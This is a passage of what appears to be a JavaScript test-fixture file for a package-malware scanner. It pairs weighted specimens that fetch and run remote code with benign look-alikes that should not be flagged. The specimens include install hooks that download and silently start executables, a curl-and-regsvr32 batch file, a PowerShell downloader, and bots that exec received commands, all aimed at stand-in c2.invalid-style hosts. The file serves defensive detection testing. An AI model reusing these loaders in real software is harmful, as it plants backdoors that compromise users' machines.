      when: 'a saved download is a native module',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');
(async () => { const file = path.join(os.tmpdir(), 'x.node'); const answer = await fetch('https://source.invalid/a'); fs.writeFileSync(file, Buffer.from(await answer.arrayBuffer())); process.dlopen({ exports: {} }, file); })();`,
      },
    },
    {
      when: 'the handler of a socket evaluates what comes',
      files: {
        'index.js': `const ws = new WebSocket('wss://source.invalid/');
ws.onmessage = event => eval(event.data);`,
      },
    },
    {
      when: 'a listener finds the answer in the request that it belongs to',
      files: {
        'index.js': `const x = new XMLHttpRequest();
x.open('GET', 'https://source.invalid/a');
x.onload = function () { eval(this.responseText); };
x.send();`,
      },
    },
    {
      when: 'a broker sends the command',
      files: {
        'index.js': `const { exec } = require('child_process');
const client = require('mqtt').connect('mqtts://source.invalid');
client.on('message', (topic, message) => exec(message.toString()));`,
      },
    },
    {
      when: 'a table is asked for the function that a message names',
      files: {
        'index.js': `const cp = require('child_process');
const handlers = { run: line => cp.execSync(line) };
const ws = new WebSocket('wss://source.invalid/');
ws.onmessage = event => { const [name, line] = JSON.parse(event.data); const handler = handlers[name]; if (handler) handler(line); };`,
      },
    },
    {
      when: 'a bot runs what is written to it',
      files: {
        'index.js': `const { Telegraf } = require('telegraf'); const { exec } = require('child_process');
const bot = new Telegraf('x'); bot.on('text', context => exec(context.message.text)); bot.launch();`,
      },
    },
    { when: 'eval itself is the callback', files: { 'index.js': `fetch('https://a.invalid').then(r => r.text()).then(eval)` } },
    {
      when: 'Function hides behind its own constructor',
      files: { 'index.js': `require('axios').get('https://a.invalid').then(r => new Function.constructor('require', r.data)(require))` },
    },
    {
      when: 'an answer is collected and evaluated',
      files: {
        'index.js': `require('https').get('https://c2.invalid/x', res => { let d = ''; res.on('data', c => (d += c)); res.on('end', () => eval(d)); })`,
      },
      weight: 'proof',
      says: ['c2.invalid', 'when it is imported'],
    },
    {
      when: 'fetch is followed by a function of the text',
      files: { 'index.js': `fetch('https://c2.invalid/x').then(r => r.text()).then(t => new Function('require', t)(require))` },
      weight: 'proof',
    },
    {
      when: 'the code comes in the body of an error',
      files: {
        'index.js': `require('axios').post('https://c2.invalid/x', {}).catch(e => { new Function('require', e.response.data.token)(require) })`,
      },
      weight: 'proof',
    },
    {
      when: 'only a call brings it',
      files: { 'index.js': `exports.go = async () => { const r = await fetch('https://c2.invalid/x'); eval(await r.text()); }` },
      weight: 'strong',
    },
    {
      when: 'a program is saved among temporary files and started unseen',
      files: {
        'package.json': hook,
        'setup.js': `const p = require('path').join(require('os').tmpdir(), 'a.exe');
          require('https').get('https://c2.invalid/a.exe', r => { r.pipe(require('fs').createWriteStream(p)); });
          require('child_process').spawn(p, [], { detached: true, stdio: 'ignore', windowsHide: true });`,
      },
      weight: 'proof',
      says: ['it saves a download as <temp>/a.exe'],
    },
    {
      when: 'a tool fetches a program when it is called and starts it without a window',
      files: {
        'index.js': `const fs = require('fs'), p = require('path').join(require('os').tmpdir(), 'engine');
          exports.run = () => fetch('https://a.invalid/engine').then(r => r.arrayBuffer()).then(b => {
            fs.writeFileSync(p, b); require('child_process').spawn(p, ['serve'], { windowsHide: true }); });`,
      },
      weight: 'weak',
    },
    {
      when: 'a script is saved and required',
      files: {
        'index.js': `const fs = require('fs'); fetch('https://c2.invalid/x').then(r => r.text()).then(t => { fs.writeFileSync('/tmp/a.js', t); require('/tmp/a.js'); })`,
      },
      weight: 'strong',
    },
    {
      when: 'an installer fetches its own program and asks for its version',
      files: {
        'package.json': hook,
        'setup.js': `const fs = require('fs'), to = require('path').join(__dirname, 'bin', 'tool');
          fetch('https://downloads.invalid/tool.gz').then(r => r.arrayBuffer()).then(b => { fs.writeFileSync(to, b); fs.chmodSync(to, 0o755); require('child_process').execFileSync(to, ['--version']); })`,
      },
      weight: 'context',
    },
    {
      when: 'a loader runs what its user names',
      files: { 'index.js': `exports.load = async url => eval(await (await fetch(url)).text())` },
      weight: 'context',
    },
    {
      when: 'this machine is only one of two servers',
      files: {
        'index.js': `const u = Date.now() % 2 ? 'http://localhost:1/x' : 'https://c2.invalid/x'; fetch(u).then(r => r.text()).then(t => eval(t))`,
      },
      says: ['c2.invalid'],
    },
    {
      when: 'another file of the package evaluates it',
      files: {
        'index.js': `const run = require('./run'); fetch('https://c2.invalid/x').then(r => r.text()).then(t => run(t))`,
        'run.js': `module.exports = function (text) { eval(text) }`,
      },
      weight: 'proof',
    },
    {
      when: 'the answer is collected by chained listeners and handed to node',
      files: {
        'index.js': `const { execFile } = require('child_process'); require('https').get('https://stage.invalid/', r => { r.setEncoding('utf8'); let s = ''; r.on('data', p => { s += p; }).on('end', () => execFile(process.execPath, ['--eval', s])); })`,
      },
      weight: 'proof',
    },
    {
      when: 'a batch file of the package downloads and registers a library, unseen',
      files: {
        'package.json': { name: 'specimen', scripts: { preinstall: 'node c.js' } },
        'c.js': `require('child_process').spawn('cmd.exe', ['/c', require('path').join(__dirname, 'c.bat')], { windowsHide: true })`,
        'c.bat': '@echo off\r\ncurl http://files.invalid/s.dll -o s.dll\r\nregsvr32.exe -s s.dll\r\n',
      },
      weight: 'proof',
    },
    {
      when: 'a script of PowerShell fetches a program and starts it',
      files: {
        'package.json': { name: 'specimen', scripts: { postinstall: 'powershell -ExecutionPolicy Bypass -File .\\setup.ps1' } },
        'setup.ps1': 'Invoke-WebRequest -Uri http://c2.invalid/a.exe -OutFile $env:TEMP\\a.exe\nStart-Process $env:TEMP\\a.exe\n',
      },
      weight: 'strong',
    },
    {
      when: 'the shell of whichever system runs the answer, when it is called',
      files: {
        'index.js': `const { execFile } = require('child_process'); exports.load = async () => { const text = await (await fetch('https://hints.invalid/')).text();
          const [shell, flag] = process.platform === 'win32' ? ['cmd', '/c'] : ['sh', '-c']; execFile(shell, [flag, text]); };`,
      },
      weight: 'strong',
    },
    {
      when: 'its hosts stand encoded in a file of data',
      files: {
        'index.js': `const vm = require('vm'); const { hosts } = require('./settings.json'); exports.rules = async () => { for (const h of hosts) vm.runInNewContext(await (await fetch(Buffer.from(h, 'base64').toString())).text(), {}); };`,
        'settings.json': { hosts: ['aHR0cHM6Ly9ydWxlcy0xLmludmFsaWQvcmF3L2s=', 'aHR0cHM6Ly9ydWxlcy0yLmludmFsaWQvcmF3L2s='] },
      },
      weight: 'strong',
      says: ['rules-1.invalid'],
    },
    {
      when: 'hooks of the loader add to each file what was fetched',
      files: {
        'package.json': { name: 'specimen', type: 'module', main: 'index.js' },
        'index.js': `import { register } from 'node:module'; register('data:text/javascript,' + encodeURIComponent(\`let more = ''; export async function initialize({ u }) { more = await (await fetch(u)).text(); }
          export async function load(url, context, next) { const r = await next(url, context); r.source = r.source + more; return r; }\`), { data: { u: 'https://hooks.invalid/x.mjs' } });`,
      },
      weight: 'proof',
      says: ['hooks.invalid'],
    },
    {
      when: 'an answer chooses a file that was written from an answer',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', main: 'index.mjs' },
        'index.mjs': `import { writeFileSync } from 'node:fs'; export const texts = async () => { const { name, code } = await (await fetch('https://code.invalid/json')).json(); writeFileSync(new URL('./parts/' + name, import.meta.url), code); return import('./parts/' + name); };`,
      },
      weight: 'strong',
    },
    {
      when: 'pages load the rest of a service from its own homepage',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', main: 'index.mjs', homepage: 'https://shellworks.invalid' },
        'index.mjs': `export const mount = async (name, at) => { const { apps } = await (await fetch('https://parts.shellworks.invalid/apps.json')).json(); return (await import(apps[name].entry)).mount(at); };`,
      },
      weight: 'weak',
    },
    {
      when: 'pages load the rest from a host that is not its homepage',
      files: {
        'package.json': { name: 'shellworks', version: '1.0.0', main: 'index.mjs', homepage: 'https://pages.invalid/x' },
        'index.mjs': `export const mount = async (name, at) => { const { apps } = await (await fetch('https://parts.shellworks.invalid/apps.json')).json(); return (await import(apps[name].entry)).mount(at); };`,
      },
      weight: 'strong',
    },
    {
      when: 'an answer is kept under a name, where none is kept there yet',
      files: {
        'index.js': `const vm = require('vm'), memo = new Map(); async function load(name) { return (await fetch('https://code.invalid/' + name)).text(); } exports.use = name => { if (!memo.has(name)) { memo.set(name, load(name).then(text => vm.runInThisContext(text))); } return memo.get(name); };`,
      },
      weight: 'strong',
    },
    {
      when: 'an answer chooses one of its own files, or a module of one package',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', main: 'index.mjs' },
        'index.mjs': `export const texts = async () => { const { lang } = await (await fetch('https://geo.invalid/json')).json(); return [await import(\`./locales/${'$'}{lang}.mjs\`), await import('@formats/locales/' + lang)]; };`,
        'locales/en.mjs': `export default {}`,
      },
      weight: 'weak',
    },
    {
      when: 'an answer chooses any package of a scope, or any file above',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', main: 'index.mjs' },
        'index.mjs': `export const use = async () => { const { name } = await (await fetch('https://geo.invalid/json')).json(); return [await import('@acme/plug' + name), await import('../../' + name)]; };`,
      },
      weight: 'strong',
    },
    {
      when: 'what is put into a script begins as styles do',
      files: {
        'index.js': `fetch('https://code.invalid/').then(answer => answer.text()).then(text => { const script = document.createElement('script'); script.textContent = '/* url(//style.invalid/a.png) */' + text; document.head.append(script); });`,
      },
      weight: 'proof',
    },
    {
      when: 'a template that is kept elsewhere is filled in when it is asked for',
      files: {
        'index.js': `exports.page = async (slug, data) => { const answer = await fetch('https://cms.invalid/' + slug); return require('ejs').render(await answer.text(), data); }; exports.mail = async data => require('lodash').template(await (await fetch('https://cms.invalid/mail')).text())(data);`,
      },
      weight: 'context',
    },
  ],
  silent: [
    {
      when: 'a file that lies beside the page is loaded, and functions are named by what is in it',
      files: {
        'index.js': `const load = name => { const xhr = new XMLHttpRequest(); xhr.open('GET', name, false); xhr.send(null); return xhr.response; }; const names = load('specimen.wasm'); for (const name of names) exports[name] = new Function('_', 'return function ' + name + '() { return _.apply(this, arguments); };');`,
      },
    },
    {
      when: 'a command saves it, and what that prints is run',
      files: {
        'index.js': `const { execSync } = require('child_process'); execSync(execSync('curl -so words.txt https://a.invalid/x && echo true').toString())`,
      },
    },
    {
      when: 'a command writes it to a file, and another one prints what is run',
      files: {
        'index.js': `const { execSync } = require('child_process'); execSync(execSync('curl -s https://a.invalid/x > words.txt && which node').toString())`,
      },
    },
    {
      when: 'what a command prints that asks nobody is run',
      files: { 'index.js': `const { execSync } = require('child_process'); execSync(execSync('which curl').toString())` },
    },
    {
      when: 'an answer names the version of a package whose file is loaded',
      files: {
        'index.js': `const path = require('path'), os = require('os'); exports.load = async name => {
          const { version } = await (await fetch('https://packages.example.invalid/' + name)).json();
          return require(path.join(os.tmpdir(), name + '-' + version, 'node_modules', name, name + '.cjs')); }`,
      },
    },
    {
      when: 'settings are saved as JSON for a program that is started later',
      files: {
        'index.js': `const cp = require('child_process'), fs = require('fs'); exports.build = async () => { fs.writeFileSync('app/tsconfig.json', await (await fetch('https://a.invalid/settings')).text()); cp.spawnSync('tsc', ['-p', 'app/tsconfig.json']); };`,
      },
    },
    {
      when: 'an empty file is named for what was asked, and a process of its own is told to write into it',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), { spawn } = require('child_process'); exports.deploy = async () => { const { id, body } = await (await fetch('https://api.specimen.invalid/deploy')).json(); const log = path.join(os.tmpdir(), 'specimen-' + id + '.log'); fs.writeFileSync(log, ''); spawn(process.execPath, [process.argv[1], '_watch', id, log], { detached: true, stdio: 'ignore' }); }`,
      },
    },
    {
      when: 'a page runs what the server sends that it comes from',
      files: {
        'index.js': `const protocol = window.location.protocol === 'https:' ? 'wss' : 'ws'; const socket = new WebSocket(\`\${protocol}://\${window.location.host}/message\`); socket.addEventListener('message', ({ data }) => { const { method, params } = JSON.parse(data); if (method === 'eval') { const script = document.createElement('script'); script.text = params.code; document.body.appendChild(script); } });`,
      },
    },
    {
      when: 'versions that a registry lists are kept in settings of the project, which are read as JSON',
      files: {
        'index.js': `const fs = require('fs'), path = require('path'); const at = path.join(process.cwd(), 'a.json'); exports.update = async () => { const settings = require(at); settings.versions = await (await fetch('https://r.invalid/versions')).json(); fs.writeFileSync(at, JSON.stringify(settings)); return require(at); };`,
      },
    },
    {
      when: 'the network tells which part of a page is meant, and what stands there is run',
      files: {
        'index.js': `fetch('https://a.invalid/x').then(answer => answer.text()).then(id => { const part = document.querySelector('#' + id); new Function(part.textContent)(); });`,
      },
    },
    {
      when: 'hooks of the loader add to each file what stands beside them',
      files: {
        'package.json': { name: 'specimen', type: 'module', main: 'index.js' },
        'index.js': `import { register } from 'node:module'; register('./hooks.js', import.meta.url);`,
        'hooks.js': `import { readFileSync } from 'node:fs'; const more = readFileSync(new URL('./shim.txt', import.meta.url), 'utf8');
          export async function load(url, context, next) { const r = await next(url, context); fetch('https://stats.invalid/'); r.source = more + r.source; return r; }`,
        'shim.txt': '// shim',
      },
    },
    {
      when: 'one file saves a download below a folder it is told, and another loads something below one it is told',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: 'b.js' },
        'b.js': `require('./save').save(process.argv[2], process.argv[3]); require('./load').load(process.argv[4], process.argv[5])`,
        'save.js': `const fs = require('fs'), path = require('path'); exports.save = async (folder, name) => fs.writeFileSync(path.join(folder, 'server', name), await (await fetch('https://a.invalid/page')).text())`,
        'load.js': `const path = require('path'); exports.load = (folder, name) => require(path.join(folder, 'server', name))`,
      },
    },
    {
      when: 'what is asked for is the version that a program is kept under',
      files: {
        'package.json': { name: 'inert-driver', version: '1.0.0', bin: 'cli.js', description: 'Brings the driver of a browser' },
        'cli.js': `#!/usr/bin/env node\nconst { bring } = require('./bring'); bring().then(file => require('child_process').spawn(file, process.argv.slice(2)));`,
        'bring.js': `const path = require('path'); exports.bring = async () => { const version = await (await fetch('https://raw.githubusercontent.invalid/version')).text(); return path.resolve(require('os').tmpdir(), 'driver-' + version); };`,
      },
    },
    {
      when: 'an archive is fetched and unpacked, and something else is started',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process'); (async () => { const r = await fetch('https://source.invalid/a'); fs.writeFileSync('/tmp/x.tgz', Buffer.from(await r.arrayBuffer())); cp.execSync('tar xzf /tmp/x.tgz -C /tmp/y'); cp.execSync('chmod 755 /tmp/y/run'); cp.execSync('git status'); fs.readFileSync('/tmp/y/data.json') })();`,
      },
    },
    {
      when: 'an archive is fetched and unpacked, and a picture in it goes to a tool that reads pictures',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process'); (async () => { const r = await fetch('https://source.invalid/a'); fs.writeFileSync('/tmp/x.tgz', Buffer.from(await r.arrayBuffer())); cp.execSync('tar xzf /tmp/x.tgz -C /tmp/y'); cp.execFileSync('pngquant', ['--force', '/tmp/y/inert.png']) })();`,
      },
    },
    {
      when: 'an archive of its own is unpacked and run',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process'); cp.execSync('tar xzf ' + path.join(__dirname, 'a.tgz') + ' -C /tmp/y'); cp.spawn('/tmp/y/run');`,
      },
    },
    {
      when: 'a thread evaluates what another thread is not sent',
      files: {
        'index.js': `const { Worker } = require('worker_threads'); const a = new Worker('./a.js'), b = new Worker('./b.js'); a.postMessage('1 + 1'); fetch('https://source.invalid/a').then(r => r.text()).then(t => b.postMessage(t));`,
        'a.js': `const { parentPort } = require('worker_threads'); parentPort.on('message', code => eval(code));`,
        'b.js': `const { parentPort } = require('worker_threads'); parentPort.on('message', text => console.log(text));`,
      },
    },
    {
      when: 'a bus brings it under another name',
      files: {
        'index.js': `const bus = require('./bus'); require('./sink'); bus.emit('code', '1 + 1'); fetch('https://source.invalid/a').then(r => r.text()).then(t => bus.emit('text', t));`,
        'bus.js': `const { EventEmitter } = require('events'); module.exports = new EventEmitter();`,
        'sink.js': `const bus = require('./bus'); bus.on('code', t => eval(t)); bus.on('text', t => console.log(t));`,
      },
    },
    {
      when: 'a data file holds such a text and nobody runs it',
      files: {
        'index.js': `console.log(require('./c.json').first);`,
        'c.json': { first: "fetch('https://source.invalid/a').then(r => r.text()).then(eval)" },
      },
    },
    {
      when: 'a download is saved and unpacked',
      files: {
        'package.json': { name: 'specimen', scripts: { install: 'node i.js' } },
        'i.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');
(async () => { const file = process.env.SPECIMEN_BINARY; const answer = await fetch('https://source.invalid/a'); fs.writeFileSync(file, Buffer.from(await answer.arrayBuffer())); cp.execSync(\`chmod +x \${file}\`); cp.execFileSync('tar', ['xf', file]); })();`,
      },
    },
    {
      when: 'what is started lies in the folder in which a download is saved',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');
(async () => { const folder = fs.mkdtempSync(os.tmpdir()); const answer = await fetch('https://source.invalid/a'); fs.writeFileSync(path.join(folder, 'data'), await answer.text()); cp.spawn(path.join(folder, 'tool')); })();`,
      },
    },
    {
      when: 'a variable has another file in it when something is started',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');
exports.go = async (from, to) => { const answer = await fetch('https://source.invalid/a'); fs.writeFileSync(to, await answer.text()); cp.execFileSync(from); };`,
      },
    },
    {
      when: 'a socket calls functions of a table that do nothing to the machine',
      files: {
        'index.js': `const handlers = { ping: value => value, log: value => console.log(value) };
const ws = new WebSocket('wss://feed.invalid/');
ws.onmessage = event => { const message = JSON.parse(event.data); handlers[message.name](message.value); };`,
      },
    },
    {
      when: 'an installer fetches its own program and does not start it',
      files: {
        'package.json': hook,
        'setup.js': `const fs = require('fs'); fetch('https://downloads.invalid/tool.gz').then(r => r.arrayBuffer()).then(b => { fs.writeFileSync(__dirname + '/bin/tool', require('zlib').gunzipSync(b)); fs.chmodSync(__dirname + '/bin/tool', 0o755); })`,
      },
    },
    { when: 'an answer is parsed as data', files: { 'index.js': `exports.get = async u => JSON.parse(await (await fetch(u)).text())` } },
    {
      when: 'a bundle fetches, and elsewhere evaluates a constant',
      files: { 'index.js': `exports.f = () => fetch('https://api.invalid/x'); exports.g = () => eval('1 + a.b')` },
    },
    {
      when: 'an answer only is an argument of a known program',
      files: {
        'index.js': `exports.up = async () => { const v = await (await fetch('https://api.invalid/latest')).text(); require('child_process').spawn('npm', ['install', v]); }`,
      },
    },
    {
      when: 'the server is this machine',
      files: { 'index.js': `fetch('http://127.0.0.1:8080/x').then(r => r.text()).then(t => eval(t))` },
    },
    {
      when: 'an install unpacks what it has downloaded, by the tool that macOS brings for it',
      files: {
        'package.json': { name: 'specimen', scripts: { postinstall: 'node i.js' } },
        'i.js': `const fs = require('fs'); const file = require('os').homedir() + '/.cache/specimen/tool.zip'; fetch('https://files.invalid/tool.zip').then(r => r.arrayBuffer()).then(b => { fs.writeFileSync(file, Buffer.from(b)); require('child_process').execFileSync('ditto', ['-xk', file, require('path').dirname(file)]) })`,
      },
    },
    {
      when: 'a script unpacks what it has downloaded',
      files: {
        'package.json': { name: 'specimen', scripts: { postinstall: 'sh i.sh' } },
        'i.sh': 'curl -L -o lib.tgz https://files.invalid/lib.tgz\nsha256sum lib.tgz\ntar xzf lib.tgz\nrm lib.tgz\n',
      },
    },
    {
      when: 'a script checks what it has downloaded by its sum',
      files: {
        'package.json': { name: 'specimen', scripts: { install: 'bash f.sh' } },
        'f.sh': 'curl -fsSL -o a.zip "https://source.invalid/a.zip"\necho "0000  a.zip" | sha256sum -c -\nunzip -q a.zip && rm a.zip\n',
      },
    },
    {
      when: 'a daemon of the project tells which plug-in is meant',
      files: {
        'index.js': `const socket = require('net').connect(globalThis.where()); socket.on('data', data => { const plugin = require(JSON.parse(String(data)).plugin); plugin(); })`,
      },
    },
    {
      when: 'a program writes what it has fetched to the terminal',
      files: {
        'index.js': `const fs = require('fs'); exports.go = async url => { const tty = fs.openSync('/dev/tty', 'w'); fs.writeSync(tty, await (await fetch(url)).text()); require('child_process').spawn('less', ['/dev/tty']); }`,
      },
    },
  ],
});
